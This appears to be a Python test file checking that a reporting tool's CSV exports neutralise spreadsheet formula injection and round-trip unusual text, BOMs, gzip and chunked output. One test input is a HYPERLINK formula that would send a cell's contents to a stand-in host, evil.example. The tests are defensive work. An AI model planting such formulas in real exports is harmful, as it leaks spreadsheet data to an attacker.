"""Cells that a spreadsheet would run, and what must come through whole."""

import csv
import io

import pytest

from reports.exports.reading import chunks, heading, selection_of
from tests.reports.exports.conftest import Ordered, content, objects, table
from tests.reports.exports.rows import act, node, subscriber


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "+7999", "-1", "@SUM(A1)", "\t=1", "\rx", "\nx", "  =1", "＝1", "＠x",
        '=HYPERLINK("http://evil.example?x="&A1,"x")',
    ],
)  # fmt: skip
def test_a_text_is_never_a_formula(written: Ordered, text: str) -> None:
    act(text)
    (found,) = table(written("audit"))
    assert found["account"] == f"'{text}"
    (line,) = objects(written("audit", format="jsonl"))
    assert line["account"] == text


@pytest.mark.parametrize(
    "text", ["anna", "a=b", "1-2", "x@y.example", "'quoted", "", " x", "é, ü;"]
)
def test_an_ordinary_text_stays_as_it_is(written: Ordered, text: str) -> None:
    act(text)
    (found,) = table(written("audit"))
    assert found["account"] == text


def test_a_negative_number_stays_a_number(written: Ordered) -> None:
    subscriber(1, telegram_id=-1001234567890)
    (found,) = table(written("users"))
    assert found["telegram_id"] == "-1001234567890"


def test_a_list_is_no_formula_either(written: Ordered) -> None:
    node("a", tags=["=1", "x"])
    (found,) = table(written("servers"))
    assert found["tags"] == "'=1 x"


@pytest.mark.parametrize("form", ["csv", "jsonl"])
@pytest.mark.parametrize(
    "text", ['a"b', "a,b", "line\nline", "back\\slash", "\x01\x02", "\\.", "﻿x", "😀", "a\u2028b"]
)
def test_awkward_texts_come_back_whole(written: Ordered, form: str, text: str) -> None:
    act(text)
    act("next")
    export = written("audit", format=form)
    rows = table(export) if form == "csv" else objects(export)
    assert [row["account"] for row in rows] == [text, "next"]
    assert export.rows == 2


def test_a_mark_for_excel_stands_before_the_heading(written: Ordered) -> None:
    act()
    body = content(written("audit", bom=True, columns=["id"]))
    assert body.startswith("\ufeffid\n".encode())


def test_a_compressed_file_holds_the_same(written: Ordered) -> None:
    act()
    plain, packed = written("audit"), written("audit", gzip=True)
    assert content(packed) == content(plain)
    assert packed.storage_name.endswith(".csv.gz")
    assert packed.file_name.endswith(".csv.gz")


def test_nothing_to_export_is_a_file_with_a_heading(written: Ordered) -> None:
    export = written("payments", columns=["id", "amount"])
    assert (content(export), export.rows) == (b"id,amount\n", 0)
    assert content(written("payments", format="jsonl")) == b""


def test_chunks_of_any_size_give_the_same_file(written: Ordered) -> None:
    for number in range(7):
        subscriber(number)
    export = written("users")
    whole = content(export)
    for size in (1, 2, 7, 8):
        found = heading(selection_of(export)) + b"".join(
            chunk.body for chunk in chunks(selection_of(export), size=size)
        )
        assert found == whole
    assert len(list(csv.reader(io.StringIO(whole.decode())))) == 8
